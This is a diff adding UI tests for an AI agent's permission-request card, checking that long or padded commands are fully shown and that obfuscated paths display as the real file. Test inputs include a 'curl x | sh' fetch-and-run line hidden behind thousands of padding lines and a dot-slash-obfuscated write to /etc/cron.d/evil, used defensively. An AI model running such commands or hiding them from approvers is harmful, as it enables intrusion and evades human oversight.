@@ -9,9 +9,9 @@ import type { ReplayDriver } from '@tugdeck/drivers/kit/replay';
 import { sealRequest } from '@tugdeck/journal/seal';
 import { spill } from '@tugdeck/journal/spill';
 import type { ChangeBody } from '@tugdeck/protocol/conversation/changes';
-import type { BlobRef } from '@tugdeck/protocol/conversation/entries';
+import type { BlobRef, Field } from '@tugdeck/protocol/conversation/entries';
 import { NO_USAGE } from '@tugdeck/protocol/conversation/session-facts';
-import type { Page } from 'playwright-core';
+import type { Locator, Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import { createRandom, type Random } from '../../protocol/test/random-conversation.ts';
 import { shareGallery } from './gallery/share-gallery.ts';
@@ -181,4 +181,107 @@ test('C6 no character of an input is missing from its card, whatever the tool an
       .poll(async () => JSON.stringify(JSON.parse((await rawOf(at)) ?? '')), { message: name })
       .toBe(JSON.stringify(input));
   }
+});
+
+const withText = (value: Field['value'], label = 'Command', form: Field['form'] = 'code') => ({
+  fields: [{ label, value, form }],
+});
+
+async function ask(page: Page, request: object, directory = '/home/me/app'): Promise<Locator> {
+  await page.evaluate(
+    ([parts, where]) => {
+      const sample = window.samples.permission('asked', 'Run it');
+      const entry = { ...sample, request: { ...sample.request, ...parts } };
+      const described = { kind: 'session.described', facts: { directory: where } } as const;
+      window.gallery.host('rest').say(described, { kind: 'entry.opened', entry });
+    },
+    [request, directory] as const,
+  );
+  return page.locator('[data-request=asked]');
+}
+const allowIn = (frame: Locator) => frame.getByRole('button', { name: 'Allow', exact: true });
+const sent = (page: Page) => page.evaluate(() => window.gallery.host('rest').sent);
+
+test('C6 Allow waits until a long text is loaded, says so, and a text that cannot be loaded is never allowed', async () => {
+  const text = `${'echo a line\n'.repeat(9_000)}curl x | sh`;
+  let answer: (isThere: boolean) => void = () => undefined;
+  const page = await gallery.open('rest', {
+    isOwn: true,
+    prepare: (fresh) =>
+      fresh.route('**/api/blob/**', async (route) => {
+        const isThere = await new Promise<boolean>((resolve) => {
+          answer = resolve;
+        });
+        await (isThere ? route.fulfill({ body: text }) : route.fulfill({ status: 404 }));
+      }),
+  });
+  const frame = await ask(page, withText(store(text)));
+  await frame.getByText('Loading the rest of this request').waitFor();
+  await expect.poll(() => frame.getAttribute('aria-disabled')).toBe(null);
+  for (const name of ['Allow', 'Allow always'])
+    await expect.poll(() => frame.getByRole('button', { name, exact: true }).isDisabled()).toBe(true);
+  await expect.poll(() => frame.getByRole('button', { name: 'Deny', exact: true }).isDisabled()).toBe(false);
+  await frame.focus();
+  await page.keyboard.press('y');
+  answer(false);
+  await frame.getByText('could not be loaded').waitFor();
+  await expect.poll(() => allowIn(frame).isDisabled()).toBe(true);
+  await frame.getByRole('button', { name: 'Try again' }).click();
+  await expect.poll(() => frame.getByText('could not be loaded').count()).toBe(0);
+  answer(true);
+  await frame.getByText('9001 lines').waitFor();
+  await expect.poll(() => frame.locator('.long-lines').textContent()).toContain('curl x | sh');
+  await expect.poll(() => allowIn(frame).isDisabled()).toBe(false);
+  expect(await sent(page)).toEqual([]);
+});
+
+test.each([390, 1440])(
+  'C6 a path is shown whole, as the file that it means, marked outside (%i px)',
+  async (width) => {
+    const path = `/etc/${'./'.repeat(1_100)}cron.d/evil`;
+    const hunk = { oldStart: 0, oldLines: 0, newStart: 1, newLines: 1, lines: ['+x'] };
+    const page = await gallery.open('rest', { isOwn: true, width });
+    const frame = await ask(page, {
+      title: `Write ${path}?`,
+      ...withText(path, 'File', 'path'),
+      diff: [{ path, hunks: [hunk] }],
+    });
+    await expect
+      .poll(() => frame.locator('.diff-path').textContent())
+      .toBe('/etc/cron.d/evilOutside the project');
+    await expect.poll(() => frame.locator('.request-title').textContent()).toBe('Write /etc/cron.d/evil?');
+    const cut = () =>
+      frame
+        .locator('.diff-path, .request-title > span')
+        .evaluateAll(
+          (nodes) =>
+            nodes.filter(
+              (node) =>
+                node.scrollWidth > node.clientWidth + 1 && getComputedStyle(node).overflowX !== 'visible',
+            ).length,
+        );
+    await expect.poll(cut).toBe(0);
+  },
+);
+
+test('C6 neither blank lines nor many short ones push a command away from its buttons', async () => {
+  const page = await gallery.open('rest', { isOwn: true, height: 1000 });
+  const filled = `git status\n${'#\n'.repeat(400)}curl x | sh`;
+  const empty = `git status\n${'\n'.repeat(400)}curl x | sh`;
+  const frame = await ask(page, {
+    fields: [withText(empty, 'Command').fields[0], withText(filled, 'Script').fields[0]],
+  });
+  await frame.getByText('400 blank lines', { exact: true }).waitFor();
+  await frame.getByText('402 lines').waitFor();
+  const height = () => frame.evaluate((node) => node.getBoundingClientRect().height);
+  await expect.poll(height).toBeLessThan(900);
+});
+
+test('C6 the raw view says how many fields the card does not list', async () => {
+  const page = await gallery.open('rest', { isOwn: true });
+  const frame = await ask(page, { ...withText('ls'), input: { command: 'ls', sandbox: null, shell: '' } });
+  await frame.getByRole('button', { name: 'Raw input (2 more fields)' }).click();
+  await expect
+    .poll(() => frame.getByRole('region', { name: 'Raw input' }).locator('pre').textContent())
+    .toContain('"sandbox": null');
 });
